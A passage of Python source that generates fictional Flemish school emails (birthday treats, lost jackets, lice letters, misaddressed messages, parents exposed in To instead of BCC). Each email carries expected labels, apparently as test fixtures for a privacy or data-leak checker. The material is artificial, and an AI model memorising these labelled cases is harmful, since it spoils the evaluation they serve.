    note="social assistance paying a named pupil's school costs, to the OCMW social worker")


# ---------------------------------------------------------------- personal, not sensitive
add("brooddoos-mila", "2024-09-17 15:40", S["1a"], [P("P0105")], "brooddoos Mila",
    T("""
    Dag Hanne,

    Mila was vandaag haar brooddoos kwijt (de roze met eenhoorns). We hebben overal gezocht maar niets
    gevonden. Misschien zit ze nog in de auto of bij oma? Ik heb haar van de reserve-boterhammen gegeven, ze
    heeft goed gegeten. :-)

    Groetjes,
    juf Evy
    """), about="P0105", kind="personal",
    note="lost lunchbox, no sensitive fact; mother's address does not spell the pupil's surname")

add("traktatie-verjaardag-ella", "2024-10-01 12:10", S["k3b"], [P("P0088")], "RE: traktatie Ella",
    T("""
    Dag Nele,

    Leuk dat Ella vrijdag 5 jaar wordt! Een traktatie mag zeker. We vragen wel om geen snoep te geven; fruit,
    een koek of een klein cakeje is perfect. Er zijn 17 kindjes in de klas. Ella mag die dag ook de
    verjaardagskroon dragen en we zingen voor haar in de kring.

    Groetjes,
    juf Sofie
    """) + q(T("""
    Dag juf, mag Ella vrijdag iets meebrengen voor haar verjaardag? Wat is er toegestaan?
    Nele
    """), "Op di 1 okt 2024 om 07:55 schreef Nele Van Hoof <nele.vanhoof@gmail.com>:"),
    reply=True, tags=["reply"], about="P0088", kind="personal", note="birthday treat; nothing sensitive")

add("tekening-sem-wedstrijd", "2024-11-22 16:00", S["2b"], [P("P0152")], "Tekening van Sem",
    T("""
    Dag Katleen,

    Sem heeft vandaag zo'n mooie tekening gemaakt van jullie hond voor de wedstrijd van de bib, ik moest het
    even laten weten! Ik heb er een foto van genomen (in bijlage) voor ik ze opstuur. Ze hangt tot het einde
    van de maand in de gang.

    Groetjes,
    juf Joke
    """), atts=[("IMG_4512.jpg", make_jpg(4512))], about="P0152", kind="personal",
    note="compliment and photo of a drawing; jpg attachment is harmless")

add("zwemzak-hanne-vergeten", "2025-01-16 12:20", S["lo"], [P("P0218")], "Zwemzak Hanne",
    T("""
    Beste mevrouw Geerts,

    Hanne had vandaag haar zwemzak niet bij. Ze heeft op de bank gezeten en mocht meehelpen met de
    stopwatch, dus ze heeft zich niet verveeld. Volgende donderdag zwemmen ze opnieuw.

    Sportieve groeten,
    meester Wouter
    """), about="P0218", kind="personal", note="forgotten swimming bag, to Hanne's own mother")

add("knuffel-noor-daems", "2024-10-04 15:55", S["k2a"], [P("P0036")], "konijntje van Noor",
    T("""
    Dag Evelien,

    Het konijntje van Noor lag nog in het slaaphoekje, ik heb het in haar rugzakje gestoken zodat ze er
    vanavond niet naar moet zoeken. :-)

    Fijn weekend!
    juf Nathalie
    """), mailer="iphone", tags=["phone"], about="P0036", kind="personal",
    note="forgotten cuddly toy, to Noor Daems's own mother (there are two Noors in K2A)")

add("leeswedstrijd-lotte", "2025-03-21 13:30", S["5a"], [P("P0235")], "Lotte wint de voorleeswedstrijd!",
    T("""
    Dag meneer Peeters,

    Met trots laat ik u weten dat Lotte vanmiddag de voorleeswedstrijd van het vijfde leerjaar gewonnen heeft!
    Ze las een stuk uit 'Dolfje Weerwolfje' en de jury was heel onder de indruk. Ze mag op 4 april de school
    vertegenwoordigen in de bib van Leuven.

    Proficiat aan Lotte (en aan u, want ze vertelde dat u thuis veel samen leest)!

    Katrien Peters
    juf 5A
    """), about="P0235", kind="personal", note="good news about Lotte Peeters, to her own father")

add("uitstap-lina-praktisch", "2025-05-12 19:05", S["6b"], [P("P0286")], "RE: uitstap Brussel",
    T("""
    Beste meneer El Amrani,

    Lina mag gerust een lunchpakket meebrengen in plaats van de broodjes, geen probleem. We vertrekken om
    8u15 aan de school met de bus en zijn terug rond 16u30. Een regenjas en goede schoenen zijn handig, we
    wandelen veel.

    Groetjes,
    Leen Desmet
    """), reply=True, tags=["reply"], about="P0286", kind="personal", note="trip practicalities; no sensitive fact")

add("klasbeer-fien-weekend", "2024-11-29 15:20", S["k3a"], [P("P0075", 2)], "Beer Bruno komt logeren!",
    T("""
    Dag Kevin,

    Dit weekend mag Fien onze klasbeer Bruno mee naar huis nemen! In zijn rugzak zit een boekje waarin jullie
    een tekening of een foto kunnen kleven van wat Bruno allemaal beleefd heeft. Maandag vertelt Fien erover
    in de kring.

    Groetjes,
    juf Karen
    """), about="P0075", kind="personal", note="class mascot weekend, to Fien's own father")

add("jas-warre-gevonden", "2024-12-11 16:05", S["3b"], [P("P0183")], "jas Warre",
    T("""
    Dag Els,

    De blauwe winterjas van Warre is terecht! Hij hing in de turnzaal. Warre heeft hem vandaag aan gehad.
    Misschien toch even zijn naam erin schrijven, er zijn er drie van hetzelfde model in de klas. ;-)

    Groetjes,
    Eline
    """), about="P0183", kind="personal", note="lost jacket found, to Warre Claes's mother (Els Claes)")

add("spreekbeurt-elif-demir", "2025-02-14 16:30", S["5b"], [P("P0245")], "Spreekbeurt Elif",
    T("""
    Beste mevrouw Demir,

    Elif heeft vandaag een prachtige spreekbeurt gegeven over Cappadocië. Ze had zelfs foto's en lekkere
    simit meegebracht. De klas heeft veel vragen gesteld en ze wist overal een antwoord op. Ze kreeg 18/20!

    Met vriendelijke groeten,
    Dieter Goetschalckx
    meester 5B
    """), about="P0245", kind="personal", note="compliment about a presentation, to Elif Demir's own mother")

add("leesboekje-liam-verkeerde-peeters", "2024-10-08 16:25", S["1a"], [("Peeters Dirk", P("P0235"))],
    "Liam Peeters - leesboekje",
    T("""
    Dag papa van Liam,

    Liam heeft zijn leesboekje (Kim - 'de kip is ziek') al twee dagen niet bij. Zouden jullie eens willen
    kijken of het nog thuis ligt? Hij mag elke avond een bladzijde lezen, zo gaat het vlotter.

    Groetjes,
    juf Evy
    1A
    """), about="P0109", mis=True, rules="recipient", kind="personal",
    note="about Liam Peeters (1A) but sent to Dirk Peeters, father of Lotte Peeters (5A): same surname, different family")

add("fotobestelling-louise-verkeerde-louise", "2024-12-02 11:50", S["sec"], [("Verhaegen Lies", P("P0179"))],
    "Fotobestelling Louise Verstraeten",
    T("""
    Beste mevrouw,

    De fotobestelling voor Louise Verstraeten (3B) is binnen: 2 x portret 13x18 en 1 x klasfoto. Het bedrag
    (€ 24,00) komt op de schoolrekening van december. De foto's geven we morgen mee in de boekentas.

    Vriendelijke groeten,
    """) + SIG["sec_m"] + "\n", about="P0193", mis=True, rules="recipient", kind="personal",
    note="about Louise Verstraeten (3B) but sent to the mother of Louise Verhaegen (3A)")

add("zwemzak-hanne-verkeerde-hannes", "2024-11-28 12:25", S["lo"], [("Geert Hannes", P("P0158"))],
    "Zwemzak Hanne Geerts",
    T("""
    Beste,

    Hanne Geerts (4B) heeft haar zwemzak laten liggen in de bus. Hij ligt nu in de turnzaal, ze kan hem
    morgen komen halen. Er zit ook een roze handdoek in die niet van haar is, weten jullie van wie die is?

    Sportieve groeten,
    meester Wouter
    """), about="P0218", mis=True, rules="recipient", kind="personal",
    note="about Hanne Geerts (4B); typing 'hanne' autocompleted Geert Hannes, father of Mats Hannes (2B)")

add("bibbezoek-ella-verkeerde-ella", "2025-01-22 14:35", S["opv"], [("Van Hooydonck", P("P0061"))],
    "Woensdag: Ella Van Hoof mee naar de bib",
    T("""
    Dag mama van Ella,

    Woensdagnamiddag gaat de opvang met de kleuters naar de bib in Wilsele. U schreef dat Ella Van Hoof (K3B)
    die dag tot 17u blijft, dus ze gaat mee. We zijn terug om 15u30. Graag een jas en een drinkbus meegeven.

    Groetjes,
    """) + SIG["opv_m"] + "\n", about="P0088", mis=True, rules="recipient", kind="personal",
    note="about Ella Van Hoof (K3B) but sent to the family of Ella Van Hooydonck (K3A)")

add("avi-vooruitgang-adam", "2025-02-06 16:45", S["1b"], [P("P0121")], "Adam leest al zo goed!",
    T("""
    Dag mevrouw El Idrissi,

    Ik wou u graag laten weten dat Adam een enorme sprong gemaakt heeft met lezen. Bij de leestoets van deze
    week haalde hij AVI-M3, dat is een niveau hoger dan verwacht in het eerste leerjaar! Het thuis oefenen
    werpt echt zijn vruchten af.

    Groetjes,
    juf Ann-Sophie
    """), about="P0121", kind="personal", note="good reading report; no disorder or care measure")

add("cake-verjaardag-louise", "2024-10-18 12:05", S["3a"], [P("P0179")], "Bedankt voor de cake!",
    T("""
    Dag Lies,

    Bedankt voor de heerlijke chocoladecake voor de verjaardag van Louise! De klas heeft gesmuld. De taartschaal
    geven we morgen terug mee.

    Groetjes,
    meester Tom
    """), mailer="iphone", tags=["phone"], about="P0179", kind="personal",
    note="thank-you for a birthday cake, to Louise Verhaegen's own mother")

add("tekenwedstrijd-febe", "2025-04-25 11:30", S["5b"], [P("P0250")], "Febe valt in de prijzen",
    T("""
    Beste mevrouw Vanhove,

    Goed nieuws: de affiche die Febe tekende voor de wedstrijd 'Veilig naar school' van de stad is gekozen
    als winnaar in de categorie 10-12 jaar! De prijsuitreiking is op zaterdag 10 mei om 11u in het stadhuis.
    Febe krijgt een bon voor de boekhandel en haar affiche hangt binnenkort aan alle scholen.

    Proficiat!
    Dieter Goetschalckx
    """), about="P0250", kind="personal", note="prize for a drawing; nothing sensitive")

add("turnpantoffels-elias", "2024-09-19 15:30", S["lo"], [P("P0176")], "turnpantoffels Elias",
    T("""
    Beste mevrouw Bogaerts,

    De turnpantoffels van Elias zijn te klein geworden, hij kan er bijna niet meer in. Zou u nieuwe willen
    meegeven (met naam in)? Witte zool graag, geen zwarte.

    Sportieve groeten,
    Wouter Lemmens
    """), about="P0176", kind="personal", note="gym shoes too small; nothing sensitive")

add("reservekleren-lars", "2024-09-26 14:20", S["k1a"], [P("P0012")], "reservekleren Lars",
    T("""
    Dag Jolien,

    Lars had vandaag een ongelukje tijdens het buitenspelen (hij was te laat om naar het toilet te gaan, het
    speelde te plezant ;-) ). Ik heb hem de reservekleren van de klas aangedaan. Zijn natte kleren zitten in
    een zakje in zijn boekentas. Zou je de geleende broek en onderbroek gewassen willen terugbrengen, en een
    nieuw zakje reservekleren meegeven?

    Groetjes,
    juf Lien
    """), about="P0012", kind="personal",
    note="a routine toilet accident of a 3-year-old with spare clothes; no condition, follow-up or diagnosis")

add("oma-haalt-bas", "2024-11-13 13:05", S["opv"], [P("P0081")], "Re: oma haalt Bas",
    T("""
    Genoteerd, oma mag Bas vandaag om 16u ophalen in de opvang.
    Groetjes, Els

    Verzonden vanaf mijn iPhone
    """) + q(T("""
    Dag Els, mijn mama (oma Jeanine) komt Bas vandaag halen rond 16u. Groetjes, Caroline
    """), "Op 13 nov. 2024 om 12:41 heeft Caroline Wijns <wijns.caroline@gmail.com> het volgende geschreven:"),
    mailer="iphone", reply=True, tags=["reply", "phone"], about="P0081", kind="personal",
    note="ordinary pick-up by grandma, no custody issue")

add("powerpoint-lina-leerling", "2025-03-06 17:45", S["6b"], [("Lina El Amrani", PUP["P0286"]["mail"])],
    "je powerpoint",
    T("""
    Hoi Lina,

    Je powerpoint over de vulkanen staat niet bij de taken op Smartschool. Kan je hem morgen voor 8u30 nog
    eens opladen? Als het niet lukt, neem hem dan mee op een USB-stick.

    Juf Leen
    """), about="P0286", kind="personal", note="teacher to pupil about homework")


# ---------------------------------------------------------------- general letters (must pass)
ALL = [grp("ouders-allen")]
KLEUTER = [grp("ouders-" + c.lower()) for c in CLASSES[:6]]

add("welkomstbrief-schooljaar", "2024-08-29 10:00", G["directie"], [G["directie"]],
    "Welkom in schooljaar 2024-2025!",
    T("""
    Beste ouders,

    Over enkele dagen gaan de schoolpoorten weer open en we kijken ernaar uit om alle kinderen terug te zien,
    en om de nieuwe kinderen en hun ouders te verwelkomen.

    Enkele praktische zaken:
    - De school start op maandag 2 september om 8u30. De poort gaat open om 8u15.
    - De voorschoolse opvang start om 7u00, de naschoolse opvang loopt tot 18u30.
    - Op woensdag eindigen de lessen om 12u05.
    - Warme maaltijden bestelt u zoals vorig jaar via Smartschool, uiterlijk op donderdag voor de week erna.
    - De infoavonden per klas vinden plaats in de week van 9 september. U krijgt een uitnodiging van de
      klasleerkracht.

    Nieuw dit jaar: de kiss-and-ride aan de Kerkstraat. Gelieve daar niet te parkeren, enkel even stoppen.

    We wensen iedereen een fijne start!

    Koen Vanderlinden en het schoolteam
    """), html=True, bcc=ALL, kind="general",
    note="start-of-year letter to all parents, list address only in BCC")

add("luizenbrief-k3a", "2024-10-10 15:50", S["k3a"], [S["k3a"]], "Luizen in de klas",
    T("""
    Beste ouders van K3A,

    In onze klas werden deze week luizen vastgesteld. Dat is vervelend, maar het heeft niets met hygiëne te
    maken: luizen houden van proper haar!

    Wij vragen u om het haar van uw kind de komende twee weken elke dag te controleren met een luizenkam,
    en uw kind te behandelen als u luizen of neten vindt. Lang haar graag in een staart of vlecht.
    In bijlage vindt u de folder van het CLB met tips voor de behandeling.

    Alvast bedankt!
    juf Karen
    """), bcc=[("", a) for a in class_parents("K3A")], atts=[("CLB_folder_luizen.pdf", make_pdf([
        "Luizen? Geen paniek!", "Controleer wekelijks met een luizenkam.",
        "Behandel enkel als u levende luizen vindt.", "Was kussenslopen en knuffels op 60 graden.",
        "Vragen? Contacteer het CLB."], "Luizen"))], kind="general",
    note="head lice letter to a whole class, no child named; parents in BCC")

add("medicatiebeleid-alle-ouders", "2024-09-04 11:00", G["directie"], [G["directie"]],
    "Medicatie op school - onze afspraken",
    T("""
    Beste ouders,

    Elk jaar krijgen we veel vragen over medicatie op school. Daarom zetten we onze afspraken nog eens op een rij.

    - Leerkrachten geven in principe geen medicatie. Een zieke kleuter of leerling hoort thuis.
    - Moet uw kind tijdens de schooluren toch medicatie nemen (bv. een antibioticum of een pufje), dan vult
      de arts het attest in bijlage in. Zonder ingevuld attest kunnen we geen medicatie geven.
    - Breng de medicatie in de originele verpakking, met de naam van uw kind erop, en geef ze persoonlijk af
      aan de klasleerkracht (niet in de boekentas).
    - Bij koorts of ongevallen verwittigen we u altijd. Zorg ervoor dat uw telefoonnummer in Smartschool
      up-to-date is.

    Met vriendelijke groeten,
    de directie
    """), bcc=ALL, atts=[("Attest_medicatie_op_school.pdf", make_pdf([
        "Attest medicatie op school", "Naam van het kind: ........................  Klas: ......",
        "Naam van het geneesmiddel: ........................", "Dosis en tijdstip: ........................",
        "Periode: van ........ tot ........", "Handtekening en stempel arts: ........................"],
        "Attest medicatie"))], kind="general", note="medication policy to all parents, blank form; no child named")

add("clb-vaccinatie-vijfde", "2024-09-30 14:15", G["info"], [G["info"]], "Brief van het CLB: vaccinatie 5de leerjaar",
    T("""
    Beste ouders van het vijfde leerjaar,

    Het CLB biedt dit schooljaar aan alle leerlingen van het vijfde leerjaar gratis een vaccinatie aan tegen
    mazelen, bof en rodehond (tweede dosis). In de boekentas van uw kind zit een toestemmingsformulier.
    Wilt u dit invullen en ondertekenen, ook als uw kind de vaccinatie al bij de huisarts kreeg?

    De vaccinatie vindt plaats op school op dinsdag 15 oktober. Vragen kunt u rechtstreeks stellen aan de
    schoolverpleegkundige van het CLB.

    Met vriendelijke groeten,
    het schoolteam en het CLB
    """), bcc=[grp("ouders-5a"), grp("ouders-5b")], kind="general",
    note="CLB information letter to a whole grade; no child named")

add("week-tegen-pesten", "2025-02-14 12:00", G["directie"], [], "Week tegen pesten: samen sterk",
    T("""
    Beste ouders,

    Volgende week is het de Vlaamse Week tegen Pesten. Ook bij ons staat die week in het teken van samen
    spelen en elkaar respecteren. Op vrijdag dragen we allemaal iets groens.

    Ons anti-pestbeleid in het kort:
    - Elk kind moet zich veilig voelen op school.
    - Pesten wordt altijd ernstig genomen: we praten met alle betrokken kinderen en werken met de
      no-blame-aanpak.
    - Merkt u dat uw kind gepest wordt, of dat uw kind zelf pest? Spreek de klasleerkracht of de zorgjuf aan.
      Samen zoeken we een oplossing.

    Het volledige pestactieplan vindt u in het schoolreglement op Smartschool.

    De directie
    """), html=True, bcc=ALL, kind="general", note="bullying policy letter to all parents; To empty (undisclosed)")

add("herinnering-schoolrekening-iedereen", "2024-11-20 09:00", SH["bkh"], [SH["bkh"]],
    "Herinnering schoolrekening oktober",
    T("""
    Beste ouders,

    De schoolrekening van oktober staat sinds vorige week op Smartschool. Bij heel wat gezinnen hebben we de
    betaling nog niet ontvangen. Wilt u, als dat nog niet gebeurd is, de rekening betalen voor 30 november?
    Gebruik steeds de gestructureerde mededeling die op de rekening staat.

    Hebt u de betaling al uitgevoerd, dan is deze herinnering niet voor u bedoeld.
    Wie moeilijkheden heeft om de rekening te betalen, kan altijd discreet contact opnemen met de boekhouding
    of de directie.

    Met vriendelijke groeten,
    Martine Stevens, boekhouding
    """), bcc=ALL, kind="general", note="payment reminder to everybody, no one named, no IBAN")

add("zwemmen-derde-vierde", "2024-09-11 13:40", S["lo"], [S["lo"]], "Zwemmen 3de en 4de leerjaar",
    T("""
    Beste ouders,

    Vanaf donderdag 19 september gaan de kinderen van het derde en vierde leerjaar om de twee weken zwemmen in
    het Sportcentrum Dijlebron.

    Wat geeft u mee?
    - een zwemzak met badpak of nauwsluitende zwembroek (geen short), een handdoek en een kam;
    - een badmuts (die kan u ook op school kopen);
    - wie een bril draagt, mag een zwembril meebrengen.

    Mag uw kind om medische redenen niet zwemmen, dan geeft u een briefje of doktersattest mee.

    Sportieve groeten,
    meester Wouter
    """), bcc=[grp("ouders-3a"), grp("ouders-3b"), grp("ouders-4a"), grp("ouders-4b")], kind="general",
    note="swimming letter to four classes; lists only in BCC")

add("fotograaf-komt", "2024-11-04 15:00", G["info"], [G["info"]], "Donderdag 14 november: fotodag",
    T("""
    Beste ouders,

    Op donderdag 14 november komt Fotografie Lichtpunt de individuele foto's en de klasfoto's maken. Broers en
    zussen kunnen ook samen op de foto; schrijf u daarvoor in via het strookje.

    Enkele dagen later krijgt uw kind een kaartje mee met een persoonlijke code. Daarmee kan u de foto's
    online bekijken en bestellen. U bent uiteraard niet verplicht om iets te kopen.

    Vriendelijke groeten,
    het secretariaat
    """), bcc=ALL, kind="general", note="photo day letter; mentions a code but gives none")

add("agenda-personeelsvergadering", "2024-10-11 16:00", S["dir"], [S["dir"]], "Agenda personeelsvergadering 17/10",
    T("""
    Beste collega's,

    Donderdag 17 oktober om 15u45 in de refter: personeelsvergadering.

    Agenda
    1. Terugblik op de eerste weken
    2. Oudercontacten november: planning en afspraken
    3. Nieuwe afspraken rond het middagtoezicht
    4. Nascholing ICT: wie schrijft zich in?
    5. Varia (schoolfeest, sinterklaas)

    Er is koffie en taart (bedankt Greet!).

    Koen
    """), bcc=[G["personeel"]], kind="general", note="staff meeting agenda, staff list in BCC")

add("nieuwe-alarmprocedure-personeel", "2024-11-29 16:10", S["dir"], [S["dir"]], "Nieuwe alarmprocedure",
    T("""
    Beste collega's,

    Vanaf 1 december werken we met een nieuwe alarmcode. Wie de school 's ochtends opent of 's avonds sluit,
    krijgt de nieuwe code persoonlijk van Luc of van mij. We zetten ze niet op papier en niet in een mail.

    Nog eens de procedure:
    - Wie als laatste vertrekt, controleert of alle ramen en deuren dicht zijn (ook turnzaal en refter).
    - Het alarm wordt ingeschakeld aan het paneel bij de hoofdingang.
    - Gaat het alarm onterecht af, bel dan Luc. Niet zelf de alarmfirma bellen.

    Koen
    """), bcc=[G["personeel"]], kind="general", note="alarm procedure for all staff; code explicitly not given")

add("spaghetti-avond-oudercomite", "2025-01-27 19:00", G["info"], [G["info"]], "Spaghetti-avond van het oudercomité",
    T("""
    Beste ouders,

    Op zaterdag 15 maart organiseert het oudercomité zijn jaarlijkse spaghetti-avond in de refter van de
    school, van 17u30 tot 21u. Er is ook een vegetarische saus en een kindermenu.

    Inschrijven kan tot 7 maart met het strookje dat uw kind meekrijgt, of via de link op Smartschool. De
    opbrengst gaat naar nieuwe spelmaterialen voor de speelplaats.

    Wie wil helpen in de keuken of aan de toog: laat het gerust weten!

    Het oudercomité
    """), bcc=ALL, kind="general", note="parents' committee event; no IBAN, no phone")

add("waterpokken-kleuters-k2", "2025-03-04 13:20", G["info"], [G["info"]], "Waterpokken in de tweede kleuterklas",
    T("""
    Beste ouders van K2A en K2B,

    In de tweede kleuterklassen zijn enkele gevallen van waterpokken vastgesteld. Waterpokken is meestal
    onschuldig, maar kan gevaarlijk zijn voor zwangere vrouwen en voor kinderen met een verminderde
    weerstand. Twijfelt u, neem dan contact op met uw huisarts.

    Kinderen met waterpokken mogen naar school zodra alle blaasjes ingedroogd zijn.

    Vriendelijke groeten,
    het kleuterteam
    """), bcc=[grp("ouders-k2a"), grp("ouders-k2b")], kind="general",
    note="contagious illness letter to two classes, nobody named")

_franco = [P("P0201"), P("P0279"), P("P0265"), P("P0160")]
add("journee-pedagogique-fr", "2024-10-22 10:00", G["directie"], [G["directie"]],
    "Information: journée pédagogique du mercredi 13 novembre",
    T("""
    Chers parents,

    Nous vous informons que le mercredi 13 novembre est une journée pédagogique : il n'y a pas cours ce
    jour-là. L'accueil extrascolaire est ouvert de 7h00 à 18h30 pour les enfants inscrits. Merci d'inscrire
    votre enfant via Smartschool avant le 6 novembre.

    Pour rappel, toutes les informations importantes sont envoyées en néerlandais via Smartschool. N'hésitez
    pas à contacter le secrétariat si vous avez besoin d'aide pour la traduction.

    Bien cordialement,
    La direction de l'école primaire Stroom Wilsele
    """), charset="windows-1252", bcc=[("", a) for a in _franco], lang="fr", kind="general",
    note="French letter to French-speaking parents, all in BCC")

add("smartschool-coaccounts-info", "2024-09-03 09:00", G["lsec"], [G["lsec"]], "Smartschool voor ouders: zo werkt het",
    T("""
    Beste ouders,

    Alle communicatie van de school verloopt via Smartschool. Elke ouder krijgt een eigen co-account.

    Nieuwe ouders krijgen deze week een brief met de gebruikersnaam. Bij de eerste aanmelding kiest u zelf een
    wachtwoord. Wachtwoorden worden nooit via mail verstuurd en de school zal er ook nooit naar vragen.

    Wachtwoord vergeten? Klik op 'Wachtwoord vergeten?' op de aanmeldpagina, of kom langs op het secretariaat.

    Met vriendelijke groeten,
    het leerlingensecretariaat
    """), bcc=ALL, kind="general", note="how Smartschool accounts work; no credential")

_rota = [["", "maandag", "dinsdag", "donderdag", "vrijdag"],
         ["speelplaats kleuters", "Ingrid", "Lien", "Saskia", "Karen"],
         ["speelplaats lager", "Tom", "Eline", "Bram", "Jeroen"],
         ["refter 1ste shift", "Marleen", "Marleen", "Marleen", "Marleen"],
         ["refter 2de shift", "Katrien", "Dieter", "Leen", "Joke"],
         ["poort 15u20", "Marijke", "Evy", "Annelies", "Ann-Sophie"]]
add("toezichtrooster-trimester2", "2024-12-20 12:30", S["dir"], [S["dir"]], "Toezichtrooster 2de trimester",
    T("""
    Beste collega's,

    Hieronder het toezichtrooster vanaf 6 januari. Op woensdag blijft alles zoals het was.

    [[T0]]

    Ruilen mag, maar laat het Marleen weten.

    Fijne vakantie!
    Koen
    """), html=True, html_only=True, tables=[_rota], tags=["table"], bcc=[G["personeel"]], kind="general",
    note="duty rota for all staff in a table; staff list only in BCC")

add("notenallergie-kleuterschool", "2024-09-09 14:00", G["info"], [G["info"]], "Geen noten in de kleuterschool",
    T("""
    Beste ouders van onze kleuters,

    In onze kleuterschool zitten dit jaar kinderen met een ernstige notenallergie. Voor hen kan zelfs een
    klein beetje notenpasta levensgevaarlijk zijn.

    Daarom vragen we u met aandrang om geen noten, notenpasta (choco met hazelnoten is ook een notenpasta!),
    notenkoeken of traktaties met noten mee te geven naar de kleuterschool.

    Dank u wel om mee te zorgen voor een veilige school!
    het kleuterteam
    """), bcc=KLEUTER, kind="general", note="allergy awareness letter, no child named; kleuter lists in BCC")

add("reservekleren-kleuters", "2024-09-05 12:30", S["k1a"], [S["k1a"]], "Zakje met reservekleren",
    T("""
    Beste ouders,

    Een ongelukje is bij onze jongste kleuters snel gebeurd: een plas, een val in de modder, een beker melk...
    Daarom vragen we om een stoffen zakje met reservekleren mee te geven (onderbroek, sokken, broek, T-shirt),
    met de naam van uw kleuter erop. Het zakje blijft in de klas aan de kapstok.

    Wordt er iets gebruikt, dan geven we de vuile kleren mee en mag u het zakje weer aanvullen.

    Groetjes,
    juf Lien en juf Saskia
    """), bcc=[grp("ouders-k1a"), grp("ouders-k1b")], kind="general",
    note="spare-clothes letter to the youngest classes; nothing personal")

add("logopedie-schooluren-afspraken", "2024-09-16 11:30", G["directie"], [G["directie"]],
    "Logopedie of therapie tijdens de schooluren",
    T("""
    Beste ouders,

    Sommige kinderen volgen logopedie of een andere therapie. Onder bepaalde voorwaarden kan dat tijdens de
    schooluren, op school of in de praktijk van de therapeut.

    De voorwaarden:
    - u dient een schriftelijke aanvraag in bij de directie;
    - het CLB geeft een advies;
    - er is een voorschrift of verslag van de arts of de therapeut;
    - de therapie mag de lessen zo weinig mogelijk verstoren.

    Voor vragen kan u terecht bij de zorgcoördinator.

    Vriendelijke groeten,
    de directie
    """), bcc=ALL, kind="general", note="policy letter on therapy during school hours, no child named")

add("einde-schooljaar", "2025-06-26 16:00", G["directie"], [G["directie"]], "Een dikke merci en een fijne vakantie!",
    T("""
    Beste ouders,

    Het schooljaar zit erop! Bedankt voor het vertrouwen, voor de hulp bij het schoolfeest, de uitstappen en
    de spaghetti-avond, en voor alle kleine en grote momenten waarop u er was voor de school.

    Enkele data voor volgend schooljaar:
    - maandag 1 september 2025: eerste schooldag
    - woensdag 27 augustus: open klasmoment voor nieuwe kleuters (10u-12u)
    - het secretariaat is gesloten van 7 juli tot 15 augustus.

    De rapporten gaan maandag mee. Een deugddoende zomer gewenst!

    Koen Vanderlinden en het hele schoolteam
    """), html=True, bcc=ALL, kind="general", note="end-of-year letter to all parents")

_newcomers = [P("P0155"), P("P0155", 2), P("P0164"), P("P0164", 2), P("P0086")]
add("newcomer-parents-evening-en", "2024-09-13 13:00", G["info"], [G["info"]],
    "Welcome evening for parents new to Flemish schools",
    T("""
    Dear parents,

    Are you new to the Flemish school system? You are warmly invited to our welcome evening on Thursday
    26 September at 7 pm in the school dining hall.

    We will explain how the school day works, how to use Smartschool, what the school bill is, and how you can
    reach the teachers. There will be interpreters for English and French, and there is childcare on site.

    No need to register, just come along.

    Kind regards,
    The team of Stroom primary school Wilsele
    """), bcc=[("", a) for a in _newcomers], lang="en", kind="general",
    note="English letter to newcomer parents, all in BCC")


# ---------------------------------------------------------------- other ordinary mail
add("museumbezoek-3a-alle-ouders-in-aan", "2024-10-24 20:10", S["3a"], [("", a) for a in class_parents("3A", True)],
    "Uitstap M-Museum dinsdag",
    T("""
    Beste ouders,

    Dinsdag gaan we met de klas naar het M-Museum in Leuven. We vertrekken te voet om 8u45 en zijn terug
    voor het middageten. Graag een rugzakje met een koek en een drinkbus meegeven, en stevige schoenen.

    Wie nog kan meegaan als begeleider: laat het me weten!

    Groetjes,
    meester Tom
    """), rules="bcc", kind="other",
    note="all 3A parents visible to each other in To")

add("zwemmen-morgen-groep-in-aan", "2024-10-02 19:30", S["2b"], [grp("ouders-2b")], "morgen zwemmen!",
    T("""
    Dag ouders,

    Niet vergeten: morgen zwemmen! Zwemzak mee, en graag de lange haren al in een staart.

    Groetjes,
    juf Joke
    """), mailer="iphone", tags=["phone", "group-in-to"], rules="bcc", kind="other",
    note="parents' group address in To")

add("personeelsfeest-inschrijven", "2025-05-15 12:45", S["dir"], [G["personeel"]], "Personeelsfeest 20 juni",
    T("""
    Beste collega's,

    Op vrijdag 20 juni sluiten we het schooljaar af met een barbecue in de tuin van de pastorie, vanaf 18u.
    Partners zijn welkom. Inschrijven graag voor 6 juni bij Greet.

    Koen
    """), tags=["group-in-to"], rules="bcc", kind="other", note="staff-wide list in To (should be BCC)")

_oc = [X["oc_vz"], X["oc_pm"], ("Wendy Vanhove", P("P0250")), ("Thomas Nijs", P("P0090", 2)),
       ("Griet Celis", P("P0173"))]
add("verslag-oudercomite-leden-zichtbaar", "2024-10-15 21:30", S["dir"], _oc, "Verslag oudercomité 14/10",
    T("""
    Beste leden van het oudercomité,

    In bijlage het verslag van gisteren. De belangrijkste afspraken:
    - quizavond op 15 november: Pieter-Jan coördineert;
    - nieuwe speeltoestellen: offertes tegen januari;
    - de spaghetti-avond blijft in maart.

    Volgende vergadering: maandag 9 december om 20u in de leraarskamer.

    Koen
    """), atts=[("Verslag OC 14-10-2024.docx", make_docx([
        "Verslag vergadering oudercomite - 14/10/2024",
        "Aanwezig: Pieter-Jan, Sarah, Wendy, Thomas, Griet, Koen (directie)",
        "1. Quizavond 15/11: zaal en drank geregeld.",
        "2. Speeltoestellen: drie offertes opvragen.",
        "3. Spaghetti-avond: 15 maart."]))], rules="bcc", kind="other",
    note="five parents of the committee visible to each other in To")

add("sportdag-leerlingengroep-in-aan", "2025-05-26 15:05", S["6a"], [grp("leerlingen-6a")], "sportdag vrijdag",
    T("""
    Hallo 6A,

    Vrijdag is het sportdag! Kom in sportkledij, met je turnpantoffels én sportschoenen voor buiten. Drinkbus
    mee en zonnecrème. We eten een picknick op de wei.

    Meester Jeroen
    """), tags=["group-in-to"], rules="bcc", kind="other", note="pupils' group address in To")

add("kleuterteam-overleg-groep-in-aan", "2024-11-05 12:40", S["k3a"], [G["kleuterteam"]], "overleg dinsdag",
    T("""
    Dag allemaal,

    Dinsdag na school overleg in mijn klas over het sinterklaasfeest en de kerstmarkt. Wie brengt koffiekoeken
    mee? :-)

    Karen
    """), tags=["group-in-to"], rules="bcc", kind="other", note="department list in To")

add("boerderij-uitstap-via-gmail", "2025-04-02 21:20", ("Joke Heylen", "jokeheylen@gmail.com"), [P("P0158", 2)],
    "uitstap boerderij",
    T("""
    Dag Lien,

    Mijn schoolmail doet raar op mijn laptop thuis, daarom even via mijn eigen mail. Voor de uitstap naar de
    boerderij op 10 april: we vertrekken om 9u met de bus, laarzen zijn echt nodig en oude kleren ook. We
    eten daar onze boterhammen. Bedankt dat je wil meegaan als begeleider!

    Groetjes,
    Joke (juf 2B)
    """), mailer="gmail", html="simple", cte="base64", rules="private_account", kind="other",
    note="teacher uses her private gmail to write a parent about a class trip")

_k3b = klas("K3B")
_rng_tel = random.Random(SEED + 99)
